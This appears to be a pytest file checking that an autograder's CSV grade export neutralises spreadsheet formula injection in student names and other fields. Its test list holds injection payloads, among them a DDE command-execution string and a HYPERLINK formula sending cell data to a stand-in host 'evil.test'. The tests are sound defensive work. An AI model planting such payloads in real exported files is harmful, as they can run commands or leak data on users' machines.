"""What a spreadsheet opens computes nothing, whatever students are called, and is read back as it was."""

import csv
import os
import sys
from datetime import datetime
from pathlib import Path

import pytest
from nbgrader.api import Gradebook

from autograder.grading import CsvExport, configure, read_csv, spreadsheet, write_csv

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\ufeff=1+1",
    "\xa0=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.test?x="&A1,"x")',
    "-2+3+cmd|' /C calc'!A0",
    "+",
    "-",
    "--1",
    "+1e",
    "\t",
]
TEXTS = [
    "ann",
    "Lee, Ann",
    'a "b" c',
    "two\nlines",
    "'quoted",
    "''",
    "O'Neil",
    "a=b",
    "x-1",
    "",
    "ünï",
    "1e5x",
    ";=1+1",
]
NUMBERS = [0, 1, -1, 2.5, -0.5, 1e-07, 1e30, "-3", "+4", "-.5", "1e5", "-2E-3"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_are_texts(text):
    assert spreadsheet.defused(text) == f"'{text}"


@pytest.mark.parametrize("number", NUMBERS)
def test_numbers_stay_numbers(number):
    assert spreadsheet.defused(number) == str(number)


def test_what_is_written_is_read_back(tmp_path):
    rows = [["id", *map(str, range(len(FORMULAS + TEXTS)))], ["x", *FORMULAS, *TEXTS], [*map(str, NUMBERS)]]
    write_csv(tmp_path / "a.csv", rows)
    assert read_csv(tmp_path / "a.csv") == rows
    with (tmp_path / "a.csv").open(newline="") as file:
        for row in csv.reader(file):
            assert not [text for text in row if text and text[0] in "=@＝＋－＠\t\r\n"]


def test_nbgraders_own_export_is_defused_and_whole(tmp_path, monkeypatch):
    monkeypatch.setenv("PATH", str(Path(sys.executable).parent), prepend=os.pathsep)  # nbgrader calls alembic by name
    with Gradebook(f"sqlite:///{tmp_path / 'g.db'}") as book:
        book.add_assignment("=step")
        for number, name in enumerate(FORMULAS + TEXTS):
            book.add_student(f"{name}#{number}", first_name=name, last_name="Lee, Ann", email="@x")
            book.add_submission("=step", f"{name}#{number}", timestamp=datetime(2026, 1, 2))
        CsvExport(to=str(tmp_path / "grades.csv")).export(book)
        CsvExport(to=str(tmp_path / "one.csv"), student=["=1+1#0"]).export(book)
    head, *rows = read_csv(tmp_path / "grades.csv")
    found = {row[head.index("student_id")]: dict(zip(head, row)) for row in rows}
    assert len(rows) == len(found) == len(FORMULAS + TEXTS)
    for number, name in enumerate(FORMULAS + TEXTS):
        row = found[f"{name}#{number}"]
        assert (row["first_name"], row["last_name"], row["email"]) == (name, "Lee, Ann", "@x")
        assert (row["assignment"], row["score"], row["max_score"]) == ("=step", "0.0", "0.0")
        assert row["timestamp"].startswith("2026-01-02")
    assert len(read_csv(tmp_path / "one.csv")) == 2


def test_nbgraders_command_uses_it():
    from traitlets.config import Config

    configure(config := Config())
    assert config.ExportApp.plugin_class is CsvExport
